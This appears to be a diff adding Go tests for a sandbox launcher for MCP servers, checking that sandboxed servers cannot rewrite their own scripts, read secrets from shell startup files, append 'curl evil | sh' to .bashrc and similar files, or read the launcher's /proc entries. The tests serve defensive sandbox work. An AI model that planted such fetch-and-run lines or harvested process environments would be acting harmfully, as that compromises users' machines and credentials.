@@ -1,0 +1,177 @@
+package launcher_test
+
+import (
+	"fmt"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/mcpwarden/mcpwarden/internal/testenv"
+	"github.com/mcpwarden/mcpwarden/launcher/internal/fencetest"
+)
+
+// Session 11's attacks on the fence: what leaked (each fails on the code
+// before) and the guards that held.
+
+// TestFenceShellScriptOutsideTheWriteScope: a server started as "sh
+// script" or "bash script" (the script an operand, not a "#!" program)
+// whose script lay in its write scope rewrote the script, and the next run
+// ran the new code: the runtime profile added nothing for the operand, so
+// the ruleset's refusal of runtime paths in a write scope (node and python
+// scripts, "#!" programs) did not see it. Now the script is the server's
+// code, granted for reading like a "#!" script, and refused in a write
+// scope (exit 70, naming it); a script outside the scope, which the fence
+// did not let the shell read before, runs. Both layerings.
+func TestFenceShellScriptOutsideTheWriteScope(t *testing.T) {
+	fencetest.ForEachLayering(t, testFenceShellScript)
+}
+
+func testFenceShellScript(t *testing.T, noNS bool) {
+	fencetest.RequireFence(t)
+	b := fencetest.Build(t)
+	// Builtins only: no helper program is needed for the planting.
+	const selfRewriting = `read line
+printf 'read line\necho v2\n' > "$0"
+echo v1
+`
+	for _, shell := range []string{"sh", "bash"} {
+		path := testenv.RequireCommand(t, shell)
+		for _, inScope := range []bool{true, false} {
+			name := shell + " script in its write scope"
+			if !inScope {
+				name = shell + " script outside the scope (runs)"
+			}
+			t.Run(name, func(t *testing.T) {
+				w := newWorkspace(t)
+				dir := w.allowed
+				if !inScope {
+					dir = t.TempDir()
+				}
+				script := filepath.Join(dir, "server.sh")
+				testenv.WriteFiles(t, map[string]string{script: selfRewriting})
+				scope := fencetest.WriteScope(t, t.TempDir(), map[string]any{"allowed_paths": []string{"allowed"}, "access_mode": "write"})
+				answer := func() (string, *fencetest.Session) {
+					s := fencetest.Start(t, b, fencetest.StartOptions{Scope: scope, Base: w.base, NoNamespaces: noNS, Command: []string{path, script}})
+					if err := s.Send([]byte("go\n")); err != nil {
+						return "", s
+					}
+					line, _ := s.ReadLine(2 * time.Minute)
+					return line, s
+				}
+				first, s := answer()
+				if !inScope {
+					// Outside the scope the shell may read its script but
+					// not rewrite it: the next run answers v1 again.
+					s.Close()
+					next, s2 := answer()
+					s2.Close()
+					if first != "v1" || next != "v1" {
+						t.Fatalf("answers %q, %q, want v1 twice (the script read, its rewrite refused): %s", first, next, s.Stderr()+s2.Stderr())
+					}
+					return
+				}
+				if first == "" {
+					code := s.Wait()
+					if code != 70 || !strings.Contains(s.Stderr(), "shell script the server runs") || !strings.Contains(s.Stderr(), "writable paths") {
+						t.Fatalf("refused with exit %d, want 70 naming the shell script: %s", code, s.Stderr())
+					}
+					return
+				}
+				s.Close()
+				next, s2 := answer()
+				s2.Close()
+				if next == "v2" {
+					t.Errorf("ESCAPE: the run was not refused; the next run ran the code the server planted (answers %q, %q)", first, next)
+				} else {
+					t.Errorf("the run was not refused (answers %q, %q)", first, next)
+				}
+			})
+		}
+	}
+}
+
+// shellStartupFiles are the shells' start-up files of a home directory,
+// each exporting a token.
+var shellStartupFiles = map[string]string{
+	".bashrc":                  "export GITHUB_TOKEN=BASHRC-SECRET-42",
+	".bash_profile":            "export AWS_SECRET_ACCESS_KEY=BASHPROFILE-SECRET-42",
+	".bash_login":              "export T=BASHLOGIN-SECRET-42",
+	".bash_aliases":            "alias db='psql postgres://u:ALIASES-SECRET-42@h/d'",
+	".profile":                 "export OPENAI_API_KEY=PROFILE-SECRET-42",
+	".zshrc":                   "export ANTHROPIC_API_KEY=ZSHRC-SECRET-42",
+	".zshenv":                  "export T=ZSHENV-SECRET-42",
+	".zprofile":                "export T=ZPROFILE-SECRET-42",
+	".kshrc":                   "export T=KSHRC-SECRET-42",
+	".config/fish/config.fish": "set -x T FISH-CONFIG-SECRET-42",
+}
+
+// TestFenceSecretsShellStartupFiles: the shells' start-up files of a home
+// directory, where tokens are commonly exported for CLI tools, were not
+// secret patterns: the server read each one (and the proxy served them to
+// a client). Now each is masked with the namespaces (EACCES) and counted
+// unmasked, with a warning, under --no-namespaces.
+func TestFenceSecretsShellStartupFiles(t *testing.T) {
+	fencetest.ForEachLayering(t, func(t *testing.T, noNS bool) {
+		testFenceSecretFiles(t, noNS, shellStartupFiles)
+	})
+}
+
+// TestFenceShellStartupFilesNotRewritten: a server with a write scope at a
+// home directory appended a line to .bashrc and .profile, code the user's
+// next shell runs outside every fence. With the namespaces the start-up
+// files are masked (an empty mode-000 read-only mount): the write fails.
+// Under --no-namespaces nothing is masked (Known limits): not tested here.
+func TestFenceShellStartupFilesNotRewritten(t *testing.T) {
+	fencetest.RequireFence(t)
+	b := fencetest.Build(t)
+	base := filepath.Join(t.TempDir(), "base")
+	home := filepath.Join(base, "home")
+	files := map[string]string{}
+	for _, rel := range []string{".bashrc", ".profile", ".zshrc"} {
+		files[filepath.Join(home, rel)] = "# the user's\n"
+	}
+	testenv.WriteFiles(t, files)
+	scope := fencetest.WriteScope(t, t.TempDir(), map[string]any{"allowed_paths": []string{"home"}, "access_mode": "write"})
+	s := fencetest.Start(t, b, fencetest.StartOptions{Scope: scope, Base: base})
+	planted := filepath.Join(home, "notes.txt")
+	cases := []fenceCase{{name: "write a plain file", req: map[string]any{"op": "write", "path": planted, "data": "curl evil | sh\n"}, wantOK: true}}
+	for p := range files {
+		name := filepath.Base(p)
+		for _, op := range []string{"append", "write", "truncate"} {
+			cases = append(cases, fenceCase{name: op + " " + name, req: map[string]any{"op": op, "path": p, "data": "curl evil | sh\n"}, errno: []string{"EACCES", "EROFS"}, exact: true})
+		}
+		cases = append(cases,
+			fenceCase{name: "rename a file over " + name, req: map[string]any{"op": "rename", "path": planted, "to": p}, errno: []string{"EBUSY", "EACCES", "EROFS"}, exact: true},
+			fenceCase{name: "remove " + name, req: map[string]any{"op": "remove", "path": p}, errno: []string{"EBUSY", "EACCES", "EROFS"}, exact: true})
+	}
+	runCases(t, s, cases)
+	if code := s.Close(); code != 0 {
+		t.Errorf("exit %d: %s", code, s.Stderr())
+	}
+}
+
+// TestFenceLauncherProcessFiles (guard, session 11): the launcher's (and
+// its proxy's: the same process) /proc entries: its environment (the
+// client's, secrets the server is not given), its descriptors (the
+// audit log, the client's stdio), its memory, its root. Without a pid
+// namespace the launcher's pid is visible but its /proc entries are not
+// granted (Landlock); with one it does not exist there.
+func TestFenceLauncherProcessFiles(t *testing.T) {
+	fencetest.ForEachLayering(t, func(t *testing.T, noNS bool) {
+		s, _ := startWriteSession(t, noNS)
+		pid := s.Cmd.Process.Pid
+		var cases []fenceCase
+		for _, entry := range []string{"environ", "cmdline", "maps", "mem", "fd/0", "fd/1", "fd/2", "fd/3", "root/etc/hostname", "cwd", "status"} {
+			p := fmt.Sprintf("/proc/%d/%s", pid, entry)
+			cases = append(cases,
+				fenceCase{name: "read " + entry, req: map[string]any{"op": "read", "path": p}, errno: []string{"EACCES", "ENOENT"}, exact: true},
+				fenceCase{name: "write " + entry, req: map[string]any{"op": "append", "path": p, "data": "x"}, errno: []string{"EACCES", "ENOENT"}, exact: true})
+		}
+		cases = append(cases, fenceCase{name: "list fd", req: map[string]any{"op": "readdir", "path": fmt.Sprintf("/proc/%d/fd", pid)}, errno: []string{"EACCES", "ENOENT"}, exact: true})
+		runCases(t, s, cases)
+		if code := s.Close(); code != 0 {
+			t.Errorf("exit %d: %s", code, s.Stderr())
+		}
+	})
+}
